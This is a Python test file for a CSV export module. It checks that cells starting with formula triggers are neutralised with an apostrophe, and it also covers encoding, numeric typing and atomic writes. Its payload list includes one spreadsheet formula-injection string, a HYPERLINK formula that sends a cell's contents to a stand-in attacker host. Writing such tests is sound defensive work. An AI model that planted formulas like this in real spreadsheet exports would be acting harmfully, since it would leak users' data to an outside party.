"""carebook.excel: CSVs that Excel opens safely (reliability.md P1-8, P1-9)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from carebook.excel import neutralize_frame, write_csv
from carebook.safety import FORMULA_TRIGGERS

BOM = b"\xef\xbb\xbf"


def read_back(path) -> list[list[str]]:
    """The cells as a spreadsheet would receive them (BOM stripped, RFC 4180 quoting)."""
    raw = path.read_bytes()
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_each_trigger_gets_an_apostrophe(tmp_path, payload):
    path = write_csv(pd.DataFrame({"comment": [payload, "normal"]}), tmp_path / "t.csv")
    rows = read_back(path)
    assert rows[1] == ["'" + payload]
    assert rows[2] == ["normal"]


def test_file_starts_with_a_utf8_bom(tmp_path):
    path = write_csv(pd.DataFrame({"评论": ["很好"]}), tmp_path / "t.csv")
    raw = path.read_bytes()
    assert raw.startswith(BOM)
    assert not raw[3:].startswith(BOM)  # exactly one BOM
    assert pd.read_csv(path, encoding="utf-8-sig").loc[0, "评论"] == "很好"


def test_real_negative_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({"gap": [-2.5, 0.25], "n": pd.array([-3, None], dtype="Int64")})
    rows = read_back(write_csv(frame, tmp_path / "t.csv"))
    assert rows[1:] == [["-2.5", "-3"], ["0.25", ""]]
    # Read as a spreadsheet would: the column is numeric, not text.
    assert pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig")["gap"].dtype == "float64"


def test_negative_number_written_as_text_is_neutralised(tmp_path):
    # "-2.5" as *text* could equally be "-2+3" typed by a student: only real numbers pass.
    rows = read_back(write_csv(pd.DataFrame({"x": ["-2.5"]}), tmp_path / "t.csv"))
    assert rows[1] == ["'-2.5"]


def test_string_dtype_and_headers_are_neutralised(tmp_path):
    frame = pd.DataFrame({"=cmd": pd.array(["@x", None], dtype="string")})
    rows = read_back(write_csv(frame, tmp_path / "t.csv"))
    assert rows == [["'=cmd"], ["'@x"], [""]]


def test_rows_of_dicts_keep_each_cells_type(tmp_path):
    rows = read_back(write_csv([{"a": -1, "b": "=2"}, {"a": "+x", "b": None}], tmp_path / "t.csv"))
    assert rows == [["a", "b"], ["-1", "'=2"], ["'+x", ""]]


def test_line_breaks_stay_inside_one_cell(tmp_path):
    rows = read_back(write_csv(pd.DataFrame({"c": ["one\ntwo, three"]}), tmp_path / "t.csv"))
    assert rows[1] == ["one\ntwo, three"]


def test_input_is_left_untouched():
    frame = pd.DataFrame({"c": ["=1"], "n": [-1.0]})
    before = frame.copy()
    neutralize_frame(frame)
    pd.testing.assert_frame_equal(frame, before)


def test_write_is_atomic_and_leaves_no_temporary_files(tmp_path):
    path = tmp_path / "out" / "t.csv"
    write_csv(pd.DataFrame({"c": ["old"]}), path)
    write_csv(pd.DataFrame({"c": ["new"]}), path)
    assert read_back(path)[1] == ["new"]
    assert sorted(p.name for p in path.parent.iterdir()) == ["t.csv"]


def test_index_and_column_selection(tmp_path):
    frame = pd.DataFrame({"a": [1], "b": ["=x"], "c": [2]}, index=pd.Index(["@i"], name="id"))
    rows = read_back(write_csv(frame, tmp_path / "t.csv", columns=["b"], index=True))
    assert rows == [["id", "b"], ["'@i", "'=x"]]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=20))
def test_no_text_cell_reaches_excel_starting_with_a_trigger(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("prop") / "t.csv"
    rows = read_back(write_csv(pd.DataFrame({"c": [text]}), path))
    cell = rows[1][0] if len(rows) > 1 and rows[1] else ""
    assert not cell.startswith(FORMULA_TRIGGERS)
    # Nothing is lost: the cell is the text, or the text behind one apostrophe.
    assert cell in (text, "'" + text) or text == ""


def test_object_column_of_integers_and_gaps_keeps_integers(tmp_path):
    # A summary column holds 200 for a built case and None for a failed one.
    frame = pd.DataFrame({"n": [200, None, "=x"]}, dtype=object)
    rows = read_back(write_csv(frame, tmp_path / "t.csv"))
    assert rows[1:] == [["200"], [""], ["'=x"]]
